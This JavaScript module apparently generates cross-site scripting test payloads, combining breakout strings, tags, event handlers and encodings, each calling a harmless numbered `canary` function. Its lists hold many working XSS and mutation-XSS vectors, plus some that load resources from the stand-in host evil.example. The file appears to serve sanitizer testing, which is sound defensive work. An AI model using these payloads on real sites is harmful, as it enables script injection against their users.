// Texts that would run a script, if any of them ever became markup, an address or a program. Each calls `canary` with a
// number of its own, so no two are alike. Made from parts: what breaks out, which element, which handler, how written.

import { randomFrom } from './random.mjs';

/** What could end the place that a text stands in. */
const BREAKERS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</template>',
  '</noscript>',
  '</iframe>',
  '</svg>',
  '</math>',
  '</select>',
  '</xmp>',
  '</plaintext>',
  '</bdi></a></h3>',
  '*/',
  '\\">',
  '\u0000">',
  '\n"\r\n>',
  '"/>',
  '" ',
  "' ",
  '${',
  '{{',
  '<!--',
  '<![CDATA[',
  '%22%3E',
  '&quot;&gt;',
  '</news-rack>',
];
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'input',
  'details',
  'marquee',
  'button',
  'form',
  'select',
  'textarea',
  'math',
  'a',
  'link',
  'style',
  'meta',
  'base',
  'table',
  'bdi',
  'x-y',
  'news-rack',
  'dialog',
  'portal',
  'frameset',
  'isindex',
  'keygen',
  'template',
  'slot',
  'image',
  'source',
  'track',
  'animate',
  'set',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onpointerenter',
  'ontoggle',
  'onanimationstart',
  'ontransitionend',
  'onbegin',
  'onclick',
  'onmouseover',
  'onslotchange',
  'onbeforetoggle',
  'onpageshow',
  'onscroll',
  'oncanplay',
  'onstart',
  'oncontentvisibilityautostatechange',
  'onsecuritypolicyviolation',
  'OnErRoR',
];
/** Between the name of an element and its attributes. */
const SPACES = [' ', '\t', '\n', '/', '\f', ' \u0000', '/ /', '\r\n'];
const QUOTES = [(it) => it, (it) => `"${it}"`, (it) => `'${it}'`, (it) => `\`${it}\``];

/** How a call can be written. */
const CALLS = [
  (n) => `canary(${n})`,
  (n) => `canary\`${n}\``,
  (n) => `top['can'+'ary'](${n})`,
  (n) => `window.canary?.(${n})`,
  (n) => `\\u0063anary(${n})`,
  (n) => `eval('canary(${n})')`,
  (n) => `(0,canary)(${n})`,
  (n) => `&#99;anary&lpar;${n}&rpar;`,
  (n) => `setTimeout('canary(${n})')`,
  (n) => `alert(canary(${n}))`,
  (n) => `import('data:text/javascript,canary(${n})')`,
  (n) => `throw onerror=canary,${n}`,
];

/** How a whole text can be disguised. */
const DISGUISES = [
  (it) => it,
  (it) => it,
  (it) => it.toUpperCase().replace(/CANARY/g, 'canary'),
  (it) => it.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (it) => it.replace(/</g, '&amp;lt;'),
  (it) => it.replace(/</g, '&#x3c;').replace(/>/g, '&#62;'),
  (it) => it.replace(/</g, '\\u003c'),
  (it) => it.replace(/</g, '\\x3c'),
  (it) => it.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (it) => it.replace(/</g, '＜').replace(/>/g, '＞'),
  (it) => it.replace(/</g, '<\u0000'),
  (it) => it.replace(/</g, '<\u200b'),
  (it) => `\u202e${it}`,
  (it) => `\ufeff${it}`,
  (it) => `+ADw-${it}`,
  (it) => it.replace(/s/g, 'ſ').replace(/k/g, 'K'),
];

/** Those that are more than one element with a handler. */
const WHOLE = [
  (n) => `<script>canary(${n})</script>`,
  (n) => `<script src="data:text/javascript,canary(${n})"></script>`,
  (n) => `<script/x>canary(${n})</script >`,
  (n) => `<scr<script>ipt>canary(${n})</scr</script>ipt>`,
  (n) => `<!--<script>--><script>canary(${n})</script>`,
  (n) => `<svg><script>canary(${n})</script></svg>`,
  (n) => `<svg><script href="data:,canary(${n})"/></svg>`,
  (n) => `<svg><style><img src=x onerror=canary(${n})></style></svg>`,
  (n) => `<svg><a xlink:href="javascript:canary(${n})"><text y=9>x</text></a></svg>`,
  (n) => `<svg><animate onbegin=canary(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><set attributeName=href to="javascript:canary(${n})">`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.canary(${n})</script>">`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='canary(${n})'/>#x">`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=canary(${n})>">`,
  (n) => `<math><mi//xlink:href="data:x,<script>canary(${n})</script>">`,
  (n) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=canary(${n})></annotation-xml></math>`,
  (n) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=canary(${n}) src>">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=canary(${n})>">`,
  (n) => `<template shadowrootmode=open><img src=x onerror=canary(${n})></template>`,
  (n) => `<div><template shadowrootmode="closed"><script>canary(${n})</script></template></div>`,
  (n) => `<template slot="card"><img src=x onerror=canary(${n})></template>`,
  (n) => `</template><slot onslotchange=canary(${n})></slot><template>`,
  (n) => `<iframe srcdoc="&lt;script&gt;parent.canary(${n})&lt;/script&gt;"></iframe>`,
  (n) => `<iframe src="javascript:parent.canary(${n})"></iframe>`,
  (n) => `<object data="data:text/html,<script>parent.canary(${n})</script>"></object>`,
  (n) => `<embed src="data:image/svg+xml,<svg onload='parent.canary(${n})'/>">`,
  (n) => `<a href="javascript:canary(${n})" autofocus onfocus=canary(${n}) tabindex=1>x</a>`,
  (n) => `<form action="javascript:canary(${n})"><input type=submit autofocus></form>`,
  (n) => `<button form=x formaction="javascript:canary(${n})">x</button>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:canary(${n})">`,
  (n) => `<base href="javascript:canary(${n})//">`,
  (n) => `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/${n})}">`,
  (n) => `<style>@import '//evil.example/${n}';@keyframes x{}*{animation:x}</style>`,
  (n) => `<img src="//evil.example/${n}" onerror=canary(${n})>`,
  (n) => `<img srcset="//evil.example/${n} 1x" sizes="(canary(${n}))">`,
  (n) => `<xmp><p title="</xmp><svg/onload=canary(${n})>">`,
  (n) => `<textarea><p title="</textarea><svg/onload=canary(${n})>">`,
  (n) => `<select><option><style></option></select><img src=x onerror=canary(${n})></style>`,
  (n) => `<table><td background="javascript:canary(${n})"><caption><img src=x onerror=canary(${n})>`,
  (n) => `javascript:canary(${n})`,
  (n) => `jav\tascript:canary(${n})`,
  (n) =>
    `\u0001javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+canary(${n})//'>`,
  (n) => `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==#${n}`,
  (n) => `data:text/html,<script>canary(${n})</script>`,
  (n) => `'-canary(${n})-'`,
  (n) => `\${canary(${n})}`,
  (n) => `{{constructor.constructor('canary(${n})')()}}`,
  (n) => `<%= canary(${n}) %>`,
  (n) => `"];canary(${n});//\u2028canary(${n})\u2029`,
  (n) => `[x](javascript:canary(${n}))`,
  (n) => `![x](x"onerror="canary(${n}))`,
  (n) => `<news-rack src="data:text/yaml,title: ${n}"><script type="application/yaml">title: canary(${n})`,
  (n) => `<x-y id=canary${n} name=documentElement><form id=shadowRoot><input name=attributes>`,
  (n) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=canary(${n}) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=canary(${n})//>\\x3e`,
];

/** So many of them. The same seed makes the same. */
export function payloads(count, seed = 1) {
  const random = randomFrom(seed);
  return Array.from({ length: count }, (_, at) => {
    const n = seed * 1_000_000 + at;
    const call = CALLS[at % CALLS.length](n);
    const element = () => {
      const [tag, handler] = [TAGS[at % TAGS.length], HANDLERS[at % HANDLERS.length]];
      const quote = random.pick(QUOTES);
      return `<${tag}${random.pick(SPACES)}src=x ${handler}=${quote(call)} autofocus tabindex=1>`;
    };
    const made = at % 3 === 0 ? WHOLE[(at / 3) % WHOLE.length](n) : element();
    const disguise = at < 3 * WHOLE.length ? DISGUISES[0] : random.pick(DISGUISES);
    return disguise(random.pick(BREAKERS) + made);
  });
}
